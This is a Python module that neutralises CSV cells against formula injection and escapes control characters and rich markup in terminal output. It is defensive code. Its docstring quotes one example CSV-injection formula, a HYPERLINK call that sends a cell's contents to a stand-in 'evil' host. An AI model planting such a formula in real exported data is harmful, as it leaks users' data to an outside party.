"""Output that never executes: text from a page (or a file name) neutralised where it is opened.

- A spreadsheet reads a CSV cell that starts with `=`, `+`, `-` or `@` as a formula
  (`=HYPERLINK("http://evil/?"&A1, "click")` sends the row away), and strips a tab or carriage
  return before one. `csv_cell` follows OWASP's advice on CSV injection: such a cell gets a leading
  single quote, which makes it text (the CSV writer also quotes every cell, doubling inner quotes).
- A terminal runs the escape sequences in what it prints (`ESC ] 0 ; title BEL` retitles the
  window, `ESC [ 2 J` clears it). `terminal_text` shows control characters as `\\xNN` instead, for
  lines that carry names from outside (a file name in an error line, a record's source).

The Article's own fields hold no control characters (`cleaner.text.sanitize`); these functions guard
the rest (ids, sources, error messages) and any caller that builds records itself.
"""

from __future__ import annotations

import re

from ..text.sanitize import CONTROLS, has_surrogates, with_surrogates

__all__ = ["FORMULA_STARTS", "csv_cell", "terminal_markup", "terminal_text"]

#: The first characters that make a spreadsheet read a cell as a formula (OWASP's list: = + - @, tab,
#: carriage return; with line feed and the full-width forms some spreadsheets also accept).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")
_CONTROL = re.compile(f"[{CONTROLS}]")
#: On a terminal line, tab and newline too (one message stays one line).
_LINE_CONTROLS = f"\t\n{CONTROLS}"
_LINE_CONTROL = re.compile(f"[{_LINE_CONTROLS}]")


def _escape(m: re.Match[str]) -> str:
    code = ord(m.group())
    return f"\\x{code:02x}" if code < 0x100 else f"\\u{code:04x}"


def csv_cell(value: str) -> str:
    """A cell a spreadsheet shows as text: control characters (but tab and newline, which CSV quoting
    carries) and lone surrogates escaped, and a leading `'` before a formula start."""
    if _CONTROL.search(value) is not None or has_surrogates(value):
        value = with_surrogates(CONTROLS).sub(_escape, value)
    return "'" + value if value.startswith(FORMULA_STARTS) else value


def terminal_text(value: str) -> str:
    """`value` safe to print on one terminal line: every control character (tab and newline
    included) and lone surrogate shown as a `\\xNN` / `\\uNNNN` escape."""
    if _LINE_CONTROL.search(value) is None and not has_surrogates(value):
        return value
    return with_surrogates(_LINE_CONTROLS).sub(_escape, value)


def terminal_markup(value: str) -> str:
    """`terminal_text` for a line printed through rich: its markup (`[red]`) escaped too, so that a
    name cannot style the line or break it (`[/x]` would raise)."""
    from rich.markup import escape

    return escape(terminal_text(value))
